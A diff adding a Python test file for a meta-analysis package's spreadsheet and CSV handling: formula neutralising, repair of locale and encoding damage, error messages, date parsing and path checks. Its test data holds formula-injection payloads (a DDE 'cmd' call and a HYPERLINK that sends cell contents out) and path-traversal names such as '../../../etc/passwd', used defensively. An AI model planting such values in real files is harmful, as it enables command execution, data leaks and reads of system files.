@@ -1,0 +1,162 @@
+"""What spreadsheets do to tables: formulas are made harmless, damage is mended or named."""
+
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from livingmeta import spreadsheets, tables
+
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    '=HYPERLINK("https://example.org?"&A1)',
+    "-x",
+    "-1(to)+A1",
+]
+HARMLESS = [
+    "-0.35",
+    "+1",
+    "-1e-5",
+    "-.5",
+    "-12%",
+    "-0.35 (-0.5 to -0.2)",
+    "-1 [-2; 3]",
+    "a=b",
+    "'s",
+    "",
+]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_a_formula_becomes_text(cell):
+    assert spreadsheets.harmless(cell) == f"'{cell}"
+
+
+@pytest.mark.parametrize("cell", HARMLESS)
+def test_numbers_and_text_stay(cell):
+    assert spreadsheets.harmless(cell) == cell
+
+
+@given(st.text(alphabet="'=+-@\t\r\n0123.%(a ", max_size=8))
+def test_what_was_made_harmless_is_read_back(cell):
+    once = spreadsheets.harmless(cell)
+    assert once[:1] not in ("=", "@", "\t", "\r", "\n")
+    assert spreadsheets.plain(once) == cell
+    assert spreadsheets.plain(spreadsheets.harmless(once)) == once
+
+
+def test_a_table_holds_no_formula_and_is_read_back(tmp_path):
+    reasons = ["=1+1", "'=1+1", "-0.3", "-2+cmd|' /C calc'!A0", "a"]
+    table = pd.DataFrame({"synthesis": "s", "study_id": list("abcde"), "reason": reasons})
+    path = tmp_path / "unusable.csv"
+    tables.write(table, path, "effects/unusable")
+    assert path.read_text().splitlines()[1] == "s,a,'=1+1"
+    assert "s,c,-0.3\n" in path.read_text()
+    assert tables.read(path, "effects/unusable")["reason"].tolist() == reasons
+
+
+HEADER = (
+    "study_id,outcome,arm,time,statistic,value,n,ci_low,ci_high,ci_level,p_value,unit,adjusted,"
+    "source,quote,extractor,note\n"
+)
+ROW = 'a,os,none,12,survival,62.5,40,,,,,%,no,p. 3,"one, two",ab,\n'
+
+
+def outcomes(tmp_path, content, encoding="utf-8"):
+    path = tmp_path / "outcomes.csv"
+    path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
+    return tables.read(path, "data/outcomes")
+
+
+def german(text):
+    """As a spreadsheet set to German saves it."""
+    return text.replace('"one, two"', "one two").replace(",", ";").replace(".5", ",5")
+
+
+@pytest.mark.parametrize(
+    ("content", "encoding", "note"),
+    [
+        (german(HEADER + ROW), "utf-8-sig", "decimal commas"),
+        ("sep=;\r\n" + german(HEADER + ROW).replace("\n", "\r\n"), "cp1252", "semicolons"),
+        ((HEADER + ROW).replace("\n", ",,,\n"), "utf-8", None),
+        (HEADER + ROW + "," * 16 + "\n" + "," * 20 + "\n", "utf-8", None),
+        (HEADER.replace(",", "\t") + ROW.replace(",", "\t"), "utf-16", "UTF-16"),
+        (HEADER + ROW.replace("p. 3", "p.\x0b3"), "utf-8", "control characters"),
+        (HEADER + ROW.replace("62.5", "\u00a062.5\u00a0"), "utf-8", None),
+    ],
+    ids=["german", "sep", "empty columns", "empty rows", "utf-16", "soft break", "no-break space"],
+)
+def test_damage_that_can_be_mended_is(tmp_path, content, encoding, note):
+    table = outcomes(tmp_path, content, encoding)
+    assert table["value"].tolist() == [62.5]
+    assert table["source"].tolist() == ["p. 3"]
+    assert "" not in table
+    assert note is None or note in " ".join(table.attrs["notes"])
+
+
+@pytest.mark.parametrize(
+    ("content", "says"),
+    [
+        (HEADER + ROW.replace("62.5", '"62,5"'), "row 2, column value: '62,5'; .*perhaps 62.5"),
+        (german(HEADER + ROW).replace("62,5", "1,234"), "perhaps 1.234 or 1234"),
+        (HEADER + ROW.replace("62.5", "\u22120.5"), r"perhaps -0\.5"),
+        (HEADER + ROW.replace("62.5", "1 234"), "perhaps 1234"),
+        (HEADER + ROW.replace("62.5", "12-Feb"), "a spreadsheet has made a date of what"),
+        (HEADER + ROW.replace("62.5", "Dec-24"), "a spreadsheet has made a date of what"),
+        (HEADER + ROW.replace("62.5", "#####"), "row 2, column value: '#####'"),
+        (HEADER + ROW.replace("62.5", "62.5%"), "62.5 here and % in the column unit"),
+        (
+            HEADER + ROW.replace('"', "\u201d") + ROW,
+            "row 2: 18 cells under 17 columns.*straight ones",
+        ),
+        (HEADER.replace("outcome,", "study_id,") + ROW, "'study_id' stands there twice"),
+        (HEADER.replace("value", "valeu") + ROW, "'value' is missing .*; found 'valeu'"),
+        ((HEADER + ROW).replace("p. 3", "p\x00 3"), r"row 2: bytes that are not text \(NUL\)"),
+        (HEADER + ROW.replace("one, two", "x" * 40_000), "column quote.*40000 characters.*32767"),
+        (HEADER + ROW + '"' + "x" * 10_000_000, "A quotation mark is probably left open"),
+        (b"PK\x03\x04" + b"\x00" * 20, "this is a spreadsheet file"),
+        (HEADER.replace("note", "note,") + ROW.replace("\n", ",x\n"), "18 cells under 17 columns"),
+    ],
+)
+def test_damage_that_cannot_be_mended_is_named(tmp_path, content, says):
+    with pytest.raises(tables.TableError, match=says) as caught:
+        outcomes(tmp_path, content)
+    assert all(len(problem) < 400 for problem in caught.value.problems)
+
+
+@pytest.mark.parametrize(
+    ("day", "meant"),
+    [
+        ("2.1.2025", ["2025-01-02"]),
+        ("2025/1/2", ["2025-01-02"]),
+        ("13/01/2025", ["2025-01-13"]),
+        ("01/13/2025", ["2025-01-13"]),
+        ("02/01/2025", ["2025-01-02", "2025-02-01"]),
+        ("2.1.25", []),
+        ("45659", []),
+    ],
+)
+def test_a_date_in_another_order(day, meant):
+    assert spreadsheets.date(day) == meant
+
+
+@pytest.mark.parametrize(
+    "name", ["../../../etc/passwd", "/etc/passwd", "a/../../b.ris", "c:\\x.ris"]
+)
+def test_a_search_names_a_file_below_its_folder(tmp_path, name):
+    path = tmp_path / "searches.csv"
+    header = "file,database,searched_on,strategy\n"
+    path.write_text(header + f"{name},PubMed,2025-01-02,\nx..y/b.ris,PubMed,2025-01-02,{name}\n")
+    with pytest.raises(tables.TableError) as caught:
+        tables.read(path, "data/searches")
+    assert [p.split(";")[0].split(", ", 1)[1] for p in caught.value.problems] == [
+        f"row 2, column file: '{name}'",
+        f"row 3, column strategy: '{name}'",
+    ]
